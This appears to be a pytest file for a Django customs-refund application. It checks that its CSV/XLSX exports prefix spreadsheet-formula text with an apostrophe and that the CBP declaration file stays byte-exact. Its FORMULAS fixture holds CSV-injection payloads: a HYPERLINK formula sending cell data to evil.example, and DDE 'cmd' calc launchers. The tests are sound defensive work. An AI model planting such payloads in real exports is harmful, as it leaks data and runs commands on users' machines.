"""Every CSV/XLSX a person downloads neutralises text that a spreadsheet would run as a formula (a cell
starting with =, +, -, @, or a tab or carriage return hiding one): it gets a leading apostrophe. The CAPE
declaration file is read by CBP's machine, not a person: it stays byte for byte as CBP's template says.
"""

import csv
import io
from decimal import Decimal

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from django.utils import timezone
from django_scopes import scope, scopes_disabled

from clients import audit
from clients.models import AuditExport, Client
from clients.services import audit_export_build
from domain import cape
from domain.entry_numbers import check_digit
from entries.ingestion.routing import broker_report_route
from entries.models import BrokerReport, Entry, EntryReport, RowRejection
from refunds.models import CbpReport, CbpReportProblem
from refunds.services import declaration_batch_build
from tests.factories import UserFactory, member, staff_user

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _neutralised(cell: str, original: str) -> bool:
    return cell == "'" + original


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _assert_all_neutralised(cells: list[str]):
    for formula in FORMULAS:
        assert formula not in cells, f"{formula!r} went out as a live formula"
        assert any(_neutralised(c, formula) for c in cells), f"{formula!r} is missing from the export"


@pytest.fixture
def admin_a(client_a):
    return member(client_a, role="client_admin")


def test_entries_export_csv_and_xlsx_neutralise_formulas(client, client_a, admin_a):
    with scope(client=client_a):
        for n, formula in enumerate(FORMULAS):
            Entry.objects.create(
                client=client_a,
                entry_number=f"F{n:02d}0000000{n}"[:11],
                entry_type="01",
                liquidation_status="=1+1",  # a short column too (20 characters)
                explanation=formula,
                ieepa_duty=Decimal("-5.00"),  # a negative amount is a number, not a formula: left alone
            )
    client.force_login(admin_a)
    url = reverse("entries:list", kwargs={"client_slug": client_a.slug})

    csv_cells = _csv_cells(_body(client.get(url + "?export=csv")))
    book = openpyxl.load_workbook(io.BytesIO(client.get(url + "?export=xlsx").content))
    xlsx = [c for row in book.active.iter_rows() for c in row]

    _assert_all_neutralised(csv_cells)
    assert "-5.00" in csv_cells
    values = [c.value for c in xlsx if isinstance(c.value, str)]
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and v != "-5.00"]
    # XML turns the carriage return into a line feed; every formula is there, behind its apostrophe.
    assert sum(v.startswith("'") for v in values) == 2 * len(FORMULAS)
    assert not [c.coordinate for c in xlsx if c.data_type == "f"], "the workbook holds formula cells"


def test_import_error_report_csv_neutralises_formulas(client, client_a, admin_a):
    with scope(client=client_a):
        report = EntryReport.objects.create(client=client_a, original_name="a.csv", sha256="0" * 64)
        for n, formula in enumerate(FORMULAS):
            RowRejection.objects.create(
                client=client_a, report=report, row_number=n + 2, entry_number=formula, reason=formula
            )
    client.force_login(admin_a)
    url = reverse(
        "entries:report_errors", kwargs={"client_slug": client_a.slug, "public_id": report.public_id}
    )
    _assert_all_neutralised(_csv_cells(_body(client.get(url))))


def test_cbp_report_problems_csv_neutralises_formulas(client, client_a, staff_a):
    with scope(client=client_a):
        report = CbpReport.objects.create(
            client=client_a, kind="es022", original_name="e.csv", sha256="0" * 64
        )
        for n, formula in enumerate(FORMULAS):
            CbpReportProblem.objects.create(
                client=client_a, report=report, row_number=n + 2, entry_number=formula[:11], reason=formula
            )
    client.force_login(staff_a)
    url = reverse(
        "refunds:report_problems", kwargs={"client_slug": client_a.slug, "public_id": report.public_id}
    )
    _assert_all_neutralised(_csv_cells(_body(client.get(url))))


def test_audit_export_neutralises_formulas_in_every_column(client_a, admin_a):
    with scope(client=client_a):
        for n, formula in enumerate(FORMULAS):
            # An email address may legally start with = + - (RFC 5322 atext): the actor column is text too.
            actor = UserFactory(email=f"{formula.strip()[:1]}1+{n}@example.com")
            audit.record(client=client_a, actor=actor, action="test.formula", subject=None, data={"x": 1})
            audit.record(client=client_a, actor=admin_a, action="test.formula", subject=None, data={})
        with scopes_disabled():
            from clients.models import AuditEvent

            AuditEvent.objects.filter(client=client_a, actor=admin_a).update(subject_repr=FORMULAS[0])
        export = AuditExport.objects.create(client=client_a, created_by=admin_a)
        audit_export_build(export=export)
        cells = _csv_cells(export.file.read())

    live = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not live, f"live formulas in the audit export: {live}"
    assert "'" + FORMULAS[0] in cells


def test_admin_exports_of_clients_and_users_neutralise_formulas(client, db):
    Client.objects.create(slug="formula", legal_name=FORMULAS[0], address_line1=FORMULAS[2])
    UserFactory(email="someone@example.com", full_name=FORMULAS[3])
    client.force_login(staff_user(manager=True))

    for model, prefix in (("client", "clientresource_"), ("user", "userresource_")):
        url = f"/admin/clients/{model}/export/"
        data = {"format": "0", "resource": "0"}
        response = client.post(url, data)
        if response.get("Content-Disposition") is None:
            form = response.context["form"]
            data.update({name: "on" for name in form.fields if name.startswith(prefix)})
            response = client.post(url, data)
        cells = _csv_cells(response.content)
        live = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
        assert not live, f"/admin/clients/{model}/export/ lets formulas through: {live}"
        assert any(c.startswith("'=") or c.startswith("'@") for c in cells), "the marked text is missing"


def test_staff_unmatched_rows_csv_neutralises_formulas(client, db):
    staff = staff_user(manager=True)
    header = "Entry Summary Number,Entry Type Code,Importer Number,Entry Date,Line Number,Tariff Ordinal Number,HTS Number,Line Duty Amount\n"
    rows = "".join(
        f'"{f}",01,"{f}",2025-05-01,1,1,9903.01.25,10.00\n' for f in ("=1+1", "+SUM(1)", "@A1", "-1+2")
    )
    report = BrokerReport.objects.create(original_name="all.csv", sha256="2" * 64, created_by=staff)
    report.file.save("all.csv", ContentFile((header + rows).encode()))
    broker_report_route(report=report)
    client.force_login(staff)

    response = client.get(reverse("staff:broker_report_unmatched", kwargs={"public_id": report.public_id}))

    cells = _csv_cells(_body(response))
    assert len(cells) > 4, "the unmatched rows are missing: the check proves nothing"
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    assert not live, f"live formulas in the unmatched rows: {live}"


def _entry_number(filer: str, serial: str) -> str:
    return f"{filer}{serial}{check_digit(filer + serial)}"


def test_cape_file_is_exactly_cbps_template_with_entry_numbers_untouched(
    client, client_a, staff_a, admin_a, settings
):
    settings.BROKERAGE_FILER_CODES = ["0A1", "ABC", "9Z9"]
    numbers = sorted(
        [_entry_number("0A1", "0000001"), _entry_number("ABC", "0012345"), _entry_number("9Z9", "9999999")]
    )
    with scope(client=client_a):
        for number in numbers:
            Entry.objects.create(
                client=client_a,
                entry_number=number,
                entry_type="01",
                ieepa_duty=Decimal("100.00"),
                refund_path="cape_phase1",
                liquidation_status="unliquidated",
                importer_number="12-345678900",
            )
        batch = declaration_batch_build(actor=staff_a, client=client_a, as_of=timezone.localdate())
        declaration = batch.declarations.get()
    client.force_login(staff_a)

    response = client.get(
        reverse(
            "refunds:declaration_file",
            kwargs={"client_slug": client_a.slug, "public_id": declaration.public_id},
        )
    )

    expected = ("Entry Number\r\n" + "".join(f"{n}\r\n" for n in numbers)).encode("ascii")
    assert response.content == expected == cape.render_file(numbers)
    assert b"'" not in response.content and not response.content.startswith(b"\xef\xbb\xbf")
